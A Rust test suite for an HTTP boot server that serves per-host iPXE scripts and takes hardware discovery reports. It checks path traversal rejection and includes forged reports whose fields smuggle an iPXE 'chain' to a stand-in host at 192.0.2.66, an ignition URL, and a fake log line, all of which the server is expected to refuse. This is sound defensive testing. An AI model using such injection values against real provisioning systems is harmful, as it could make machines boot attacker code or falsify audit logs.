use super::*;
use crate::domain::ChangeAction;
use crate::domain::inventory::PhysicalHost;
use std::io::{Read, Write};
use std::sync::Arc;

fn request(addr: std::net::SocketAddr, raw: &str) -> String {
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.write_all(raw.as_bytes()).unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    out
}

fn get(addr: std::net::SocketAddr, path: &str) -> String {
    request(
        addr,
        &format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn serves_files_logs_requests_and_takes_discovery_reports() {
    let dir = tempfile::tempdir().unwrap();
    let boot = HttpBoot::new(
        dir.path().to_path_buf(),
        Url::parse("http://127.0.0.1:8080/").unwrap(),
        ServiceMode::Apply,
    );
    let files = [HttpFile {
        path: "ipxe/52-54-00-00-00-21.ipxe".into(),
        content: b"#!ipxe\necho hi\n".to_vec(),
    }];
    let first = boot.ensure_http_files(&files).await.unwrap();
    assert_eq!(first[0].action, ChangeAction::Create);
    assert_eq!(
        boot.ensure_http_files(&files).await.unwrap()[0].action,
        ChangeAction::Unchanged
    );
    // Per-host scripts go to the one table file, not a file each under www/.
    assert!(!boot.root().join("ipxe").exists());
    assert_eq!(
        boot.scripts().read().unwrap()["52-54-00-00-00-21.ipxe"],
        "#!ipxe\necho hi\n"
    );
    let reports: Arc<std::sync::Mutex<Vec<PhysicalHost>>> = Arc::default();
    let seen = reports.clone();
    let sink: DiscoverySink = Arc::new(move |_client, r: harmony_types::DiscoveryReport| {
        seen.lock().unwrap().push(r.into_host());
        Ok(super::ReportOutcome::Recorded)
    });
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = boot.serve_on(listener, Some(sink)).unwrap();

    let ok = tokio::task::spawn_blocking(move || get(addr, "/ipxe/52-54-00-00-00-21.ipxe"))
        .await
        .unwrap();
    assert!(ok.starts_with("HTTP/1.1 200"), "{ok}");
    assert!(ok.ends_with("#!ipxe\necho hi\n"), "{ok}");
    let missing = tokio::task::spawn_blocking(move || get(addr, "/ipxe/../../etc/passwd"))
        .await
        .unwrap();
    assert!(missing.starts_with("HTTP/1.1 404"), "{missing}");

    let report =
        serde_json::json!({"id": "host-a", "hostname": null, "macs": ["52:54:00:00:00:31"],
        "cpu_count": 4, "memory_bytes": 8589934592u64, "disks": []})
        .to_string();
    let posted = tokio::task::spawn_blocking(move || {
        request(
            addr,
            &format!(
                "POST /discovery HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{report}",
                report.len()
            ),
        )
    })
    .await
    .unwrap();
    assert!(posted.starts_with("HTTP/1.1 201"), "{posted}");
    assert_eq!(reports.lock().unwrap()[0].id.as_str(), "host-a");
    let bad = tokio::task::spawn_blocking(move || {
        request(
            addr,
            "POST /discovery HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
        )
    })
    .await
    .unwrap();
    assert!(bad.starts_with("HTTP/1.1 400"), "{bad}");

    let log = boot.access_log().await.unwrap();
    let paths: Vec<(&str, u16)> = log.iter().map(|a| (a.path.as_str(), a.status)).collect();
    assert_eq!(
        paths,
        [
            ("/ipxe/52-54-00-00-00-21.ipxe", 200),
            ("/ipxe/../../etc/passwd", 404),
            ("/discovery", 201),
            ("/discovery", 400)
        ]
    );
    let file = std::fs::read_to_string(boot.access_log_path()).unwrap();
    assert!(
        file.contains("127.0.0.1 GET /ipxe/52-54-00-00-00-21.ipxe 200"),
        "{file}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn bad_paths_are_rejected_before_writing() {
    let dir = tempfile::tempdir().unwrap();
    let boot = HttpBoot::new(
        dir.path().to_path_buf(),
        Url::parse("http://127.0.0.1:8080/").unwrap(),
        ServiceMode::Render,
    );
    for bad in ["../x", "/abs", "a//b", "a b"] {
        let err = boot
            .ensure_http_files(&[HttpFile {
                path: bad.into(),
                content: vec![],
            }])
            .await
            .unwrap_err();
        assert!(err.to_string().contains(&format!("{bad:?}")), "{err}");
    }
    assert!(!dir.path().join("www").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn serves_the_discovery_image_from_its_own_folder() {
    let dir = tempfile::tempdir().unwrap();
    let image = dir.path().join("image");
    std::fs::create_dir_all(&image).unwrap();
    std::fs::write(image.join("vmlinuz"), b"kernel bytes").unwrap();
    let boot = HttpBoot::new(
        dir.path().join("http"),
        Url::parse("http://127.0.0.1:8080/").unwrap(),
        ServiceMode::Apply,
    )
    .with_discovery_image(Some(image.clone()));
    assert_eq!(boot.discovery_image(), Some(&image));
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = boot.serve_on(listener, None).unwrap();
    let (kernel, missing, escape) = tokio::task::spawn_blocking(move || {
        (
            get(addr, "/discovery/vmlinuz"),
            get(addr, "/discovery/initrd.img"),
            get(addr, "/discovery/../http/access.log"),
        )
    })
    .await
    .unwrap();
    assert!(kernel.starts_with("HTTP/1.1 200"), "{kernel}");
    assert!(kernel.ends_with("kernel bytes"), "{kernel}");
    assert!(missing.starts_with("HTTP/1.1 404"), "{missing}");
    assert!(escape.starts_with("HTTP/1.1 404"), "{escape}");

    // Without an image, the answer says how to get one.
    let bare = HttpBoot::new(
        dir.path().join("http2"),
        Url::parse("http://127.0.0.1:8080/").unwrap(),
        ServiceMode::Apply,
    );
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = bare.serve_on(listener, None).unwrap();
    let answer = tokio::task::spawn_blocking(move || get(addr, "/discovery/vmlinuz"))
        .await
        .unwrap();
    assert!(answer.starts_with("HTTP/1.1 404"), "{answer}");
    assert!(answer.contains("discovery-image/build.sh"), "{answer}");
}

fn post(addr: std::net::SocketAddr, body: &str) -> String {
    request(
        addr,
        &format!(
            "POST /discovery HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        ),
    )
}

/// The tester's forged reports (issue 30): each is refused with a 400 naming the field, and
/// nothing reaches the sink (the inventory).
#[tokio::test(flavor = "multi_thread")]
async fn forged_discovery_reports_are_refused_naming_the_field() {
    let dir = tempfile::tempdir().unwrap();
    let boot = HttpBoot::new(
        dir.path().to_path_buf(),
        Url::parse("http://127.0.0.1:8080/").unwrap(),
        ServiceMode::Apply,
    );
    let reports: Arc<std::sync::Mutex<Vec<PhysicalHost>>> = Arc::default();
    let seen = reports.clone();
    let sink: DiscoverySink = Arc::new(move |_client, r: harmony_types::DiscoveryReport| {
        seen.lock().unwrap().push(r.into_host());
        Ok(super::ReportOutcome::Recorded)
    });
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = boot.serve_on(listener, Some(sink)).unwrap();
    let good = || {
        serde_json::json!({"id": "host-a", "hostname": null, "macs": ["52:54:00:00:00:31"],
            "cpu_count": 4, "memory_bytes": 8589934592u64,
            "disks": [{"name": "sda", "size_bytes": 107374182400u64, "rotational": false}],
            "serial": "CZJ1234567", "uuid": "4c4c4544-0042-3510-8051-b7c04f4e3232"})
    };
    let disk = |name: &str| serde_json::json!([{"name": name, "size_bytes": 1u64 << 30, "rotational": false}]);
    let many_disks: Vec<serde_json::Value> = (0..5000)
        .map(|i| serde_json::json!({"name": format!("nvme{}n{}", i / 1000, i % 1000), "size_bytes": 512, "rotational": false}))
        .collect();
    let cases: Vec<(&str, serde_json::Value, &str)> = vec![
        (
            "disks",
            disk("sda\nchain http://192.0.2.66/pwn.ipxe"),
            "disks[0].name",
        ),
        (
            "disks",
            disk("sda coreos.inst.ignition_url=http://192.0.2.66/x.ign"),
            "disks[0].name",
        ),
        ("disks", disk("sda${net0/ip}"), "disks[0].name"),
        ("macs", serde_json::json!([]), "field macs:"),
        ("cpu_count", 0.into(), "field cpu_count:"),
        ("memory_bytes", u64::MAX.into(), "field memory_bytes:"),
        (
            "disks",
            serde_json::Value::Array(many_disks),
            "field disks:",
        ),
        ("serial", "x".repeat(900 * 1024).into(), "field serial:"),
        (
            "serial",
            "CZJ1\nINFO discovery: host evil approved".into(),
            "field serial:",
        ),
        ("uuid", "not-a-uuid".into(), "field uuid:"),
    ];
    for (key, value, expected) in cases {
        let mut body = good();
        body[key] = value;
        let body = body.to_string();
        let answer = tokio::task::spawn_blocking(move || post(addr, &body))
            .await
            .unwrap();
        assert!(answer.starts_with("HTTP/1.1 400"), "{key}: {answer:.300}");
        assert!(answer.contains(expected), "{key}: {answer:.300}");
    }
    assert!(
        reports.lock().unwrap().is_empty(),
        "a forged report reached the inventory"
    );
    let body = good().to_string();
    let answer = tokio::task::spawn_blocking(move || post(addr, &body))
        .await
        .unwrap();
    assert!(answer.starts_with("HTTP/1.1 201"), "{answer}");
    assert_eq!(
        reports.lock().unwrap()[0].serial.as_deref(),
        Some("CZJ1234567")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn per_host_scripts_are_served_from_the_table_as_it_changes_and_never_from_stale_files() {
    let dir = tempfile::tempdir().unwrap();
    let boot = HttpBoot::new(
        dir.path().to_path_buf(),
        Url::parse("http://127.0.0.1:8080/").unwrap(),
        ServiceMode::Apply,
    );
    let script = |mac: &str, text: &str| HttpFile {
        path: format!("ipxe/{mac}.ipxe"),
        content: text.as_bytes().to_vec(),
    };
    let first = boot
        .ensure_http_files(&[
            script("52-54-00-00-00-22", "#!ipxe\necho two\n"),
            script("52-54-00-00-00-21", "#!ipxe\necho one\n"),
        ])
        .await
        .unwrap();
    let seen: Vec<(&str, ChangeAction)> = first
        .iter()
        .map(|c| (c.object.as_str(), c.action))
        .collect();
    assert_eq!(
        seen,
        [
            ("HTTP /ipxe/52-54-00-00-00-21.ipxe", ChangeAction::Create),
            ("HTTP /ipxe/52-54-00-00-00-22.ipxe", ChangeAction::Create)
        ],
        "one change per script, in path order"
    );
    // A script a version before ADR 0026 left as a file is not served: /ipxe/ is the table's.
    std::fs::create_dir_all(boot.root().join("ipxe")).unwrap();
    std::fs::write(
        boot.root().join("ipxe/52-54-00-00-00-99.ipxe"),
        "#!ipxe\nstale\n",
    )
    .unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = boot.serve_on(listener, None).unwrap();
    let fetch = move |path: &'static str| tokio::task::spawn_blocking(move || get(addr, path));
    let one = fetch("/ipxe/52-54-00-00-00-21.ipxe").await.unwrap();
    assert!(
        one.starts_with("HTTP/1.1 200") && one.ends_with("echo one\n"),
        "{one}"
    );
    let stale = fetch("/ipxe/52-54-00-00-00-99.ipxe").await.unwrap();
    assert!(stale.starts_with("HTTP/1.1 404"), "{stale}");

    // Changing one script while the server runs: reported as one update, served at once, the
    // other script untouched.
    let second = boot
        .ensure_http_files(&[script("52-54-00-00-00-21", "#!ipxe\necho changed\n")])
        .await
        .unwrap();
    assert_eq!(second.len(), 1);
    assert_eq!(second[0].action, ChangeAction::Update);
    let one = fetch("/ipxe/52-54-00-00-00-21.ipxe").await.unwrap();
    assert!(one.ends_with("echo changed\n"), "{one}");
    let two = fetch("/ipxe/52-54-00-00-00-22.ipxe").await.unwrap();
    assert!(two.ends_with("echo two\n"), "{two}");
    let head = tokio::task::spawn_blocking(move || {
        request(
            addr,
            "HEAD /ipxe/52-54-00-00-00-22.ipxe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        )
    })
    .await
    .unwrap();
    assert!(
        head.starts_with("HTTP/1.1 200") && head.contains("content-length: 16"),
        "{head}"
    );
    // The table is not downloadable whole.
    let table = fetch("/ipxe-scripts.json").await.unwrap();
    assert!(table.starts_with("HTTP/1.1 404"), "{table}");
}
